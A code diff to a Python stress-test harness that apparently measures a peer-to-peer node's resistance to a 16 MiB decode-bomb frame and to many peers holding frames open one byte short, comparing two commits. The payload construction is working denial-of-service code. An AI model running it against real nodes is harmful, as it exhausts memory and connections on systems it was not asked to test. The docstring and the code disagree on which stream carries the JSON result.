@@ -13,8 +13,9 @@ the target's own counters. Run it on two commits to compare.
 
 1. bomb: one authenticated peer sends HELLO, then one 16 MiB frame
    `[3, [[], [], ...]]` (a PING whose nonce is 16.7 million empty arrays).
-2. slow: `--peers` authenticated peers each announce a 16 MiB frame and send
-   all of it but the last byte, then wait.
+2. slow: `--peers` authenticated peers each send a 16 MiB frame that is legal
+   to the byte (one DIRECT batch, one payload) except that its last byte
+   never comes; measured for `--window-s` seconds.
 
 Readable lines go to stderr; the last line, on stdout, is a JSON object.
 """
@@ -152,6 +153,15 @@ async def _wait_closed(conn: SecureConnection, timeout_s: float) -> float | None
     return None
 
 
+async def _send(conn: SecureConnection, data: bytes) -> bool:
+    """Send; False if the target closed the connection first."""
+    try:
+        await conn.send(data)
+    except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
+        return False
+    return True
+
+
 async def attack_bomb(target: Target) -> dict[str, Any]:
     count = FRAME_BYTES - 7
     body = b"\x92\x03\xdd" + count.to_bytes(4, "big") + b"\x90" * count
@@ -159,15 +169,17 @@ async def attack_bomb(target: Target) -> dict[str, Any]:
     conn = await _connect(target)
     baseline = await target.ask("reset")
     start = time.perf_counter()
-    await conn.send(len(body).to_bytes(4, "big") + body)
+    sent = await _send(conn, len(body).to_bytes(4, "big") + body)
     sent_s = time.perf_counter() - start
-    closed_after_send_s = await _wait_closed(conn, 60)
+    await _wait_closed(conn, 60)
+    closed_s = time.perf_counter() - start
     report = await target.ask()
     return {
         "case": "decode_bomb",
         "frame_bytes": FRAME_BYTES,
+        "whole_frame_sent": sent,
         "send_s": round(sent_s, 3),
-        "closed_after_send_s": closed_after_send_s and round(closed_after_send_s, 3),
+        "closed_s": round(closed_s, 3),
         "rss_growth_mib": round((report["hwm_kib"] - baseline["rss_kib"]) / 1024, 1),
         "stall_ms_max": report["stall_ms_max"],
         "disconnects": report["disconnects"],
@@ -175,41 +187,36 @@ async def attack_bomb(target: Target) -> dict[str, Any]:
     }
 
 
-async def attack_slow(target: Target, peers: int) -> dict[str, Any]:
+async def attack_slow(target: Target, peers: int, window_s: float) -> dict[str, Any]:
     conns = [await _connect(target) for _ in range(peers)]
     baseline = await target.ask("reset")
-    part = bytes(FRAME_BYTES - 1)
+    # A frame that looks legal to the byte: one DIRECT batch on the consensus
+    # channel holding one 16 MiB payload (bin32), of which the last byte never comes.
+    payload_bytes = FRAME_BYTES - 9
+    body_head = b"\x93\x01\x01\x91\xc6" + payload_bytes.to_bytes(4, "big")
+    frame = FRAME_BYTES.to_bytes(4, "big") + body_head + bytes(payload_bytes - 1)
     start = time.perf_counter()
     closed: list[float | None] = [None] * peers
     sent = [False] * peers
 
     async def one(index: int) -> None:
         conn = conns[index]
-        with trio.move_on_after(60):
-            try:
-                await conn.send(FRAME_BYTES.to_bytes(4, "big") + part)
-                sent[index] = True
-            except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
-                pass
-        waited = await _wait_closed(conn, 60 - (time.perf_counter() - start))
-        if waited is not None:
+        with trio.move_on_after(window_s):
+            sent[index] = await _send(conn, frame)
+            await _wait_closed(conn, window_s)
             closed[index] = time.perf_counter() - start
 
     held: list[dict[str, Any]] = []
 
-    async def sample() -> None:
-        while True:
-            await trio.sleep(1.0)
-            held.append(await target.ask())
+    async def sample(cancel: trio.CancelScope) -> None:
+        with cancel:
+            while True:
+                await trio.sleep(1.0)
+                held.append(await target.ask())
 
     async with trio.open_nursery() as nursery:
         sampler = trio.CancelScope()
-
-        async def run_sampler() -> None:
-            with sampler:
-                await sample()
-
-        nursery.start_soon(run_sampler)
+        nursery.start_soon(sample, sampler)
         async with trio.open_nursery() as attackers:
             for index in range(peers):
                 attackers.start_soon(one, index)
@@ -221,8 +228,9 @@ async def attack_slow(target: Target, peers: int) -> dict[str, Any]:
         "case": "slow_frames",
         "peers": peers,
         "frame_bytes": FRAME_BYTES,
-        "frames_fully_sent_but_one_byte": sum(sent),
-        "closed": len(times),
+        "window_s": window_s,
+        "frames_sent_but_last_byte": sum(sent),
+        "closed_in_window": len(times),
         "closed_first_s": round(times[0], 1) if times else None,
         "closed_last_s": round(times[-1], 1) if times else None,
         "rss_growth_max_mib": round((rss_max - baseline["rss_kib"]) / 1024, 1),
@@ -236,6 +244,7 @@ def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("attack", choices=["bomb", "slow"])
     parser.add_argument("--peers", type=int, default=30)
+    parser.add_argument("--window-s", type=float, default=70.0)
     args = parser.parse_args()
     # Many attackers come from 127.0.0.1: lift only the per-IP handshake rate
     # (when this commit has one) so that what is measured is the frame path.
@@ -247,7 +256,7 @@ def main() -> None:
         if args.attack == "bomb":
             result = trio.run(attack_bomb, target)
         else:
-            result = trio.run(attack_slow, target, args.peers)
+            result = trio.run(attack_slow, target, args.peers, args.window_s)
     finally:
         target.stop()
     print(json.dumps(result, sort_keys=True), file=sys.stderr)
